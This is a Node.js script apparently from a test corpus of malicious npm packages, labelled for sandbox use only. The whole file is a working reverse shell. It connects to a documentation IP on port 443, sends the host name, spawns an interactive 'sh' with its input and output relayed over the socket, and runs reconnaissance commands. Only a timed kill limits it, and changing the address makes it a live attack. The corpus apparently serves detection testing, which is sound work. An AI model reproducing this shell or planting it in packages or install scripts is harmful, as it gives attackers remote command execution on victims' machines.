'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// The node reverse shell of many malicious npm postinstall scripts
// (2021-2024), rewritten from the public write-ups: no bash /dev/tcp and no
// dup2. Node connects to the attacker, starts `sh -i` with pipes and relays
// the socket into the shell's stdin and its stdout/stderr back, so the
// socket is never the shell's stdio. It greets with the host name, then
// (as the attacker would) runs `id; uname -a`. Here the address is a
// documentation one (198.51.100.29:443): in the sandbox the sink accepts,
// records what the shell printed and sends nothing. The shell is SIGKILLed
// after 3 s. Prints `mal-node-revshell: step N ...`; exits 0 whatever
// fails, after 5 s at the latest.
const net = require('net');
const os = require('os');
const { spawn } = require('child_process');

const say = (msg) => console.log(`mal-node-revshell: ${msg}`);
setTimeout(() => { say('gave up after 5 s'); process.exit(0); }, 5000).unref();
process.on('uncaughtException', (e) => { say(`error ${e.code || e.message}`); process.exit(0); });

const sock = net.connect(443, '198.51.100.29');
sock.on('error', (e) => { say(`error ${e.code || e.message}`); process.exit(0); });
sock.on('connect', () => {
  say('step 1 connected to 198.51.100.29:443');
  sock.write(`ready ${os.hostname()}\n`);
  const sh = spawn('/bin/sh', ['-i'], { stdio: ['pipe', 'pipe', 'pipe'] });
  sock.pipe(sh.stdin);
  sh.stdout.pipe(sock);
  sh.stderr.pipe(sock);
  sh.stdin.write('id; uname -a\n');
  say('step 2 sh -i relayed over pipes to the socket');
  setTimeout(() => {
    sh.kill('SIGKILL');
    sock.destroy();
    say('step 3 reverse shell ended');
    process.exit(0);
  }, 3000);
});
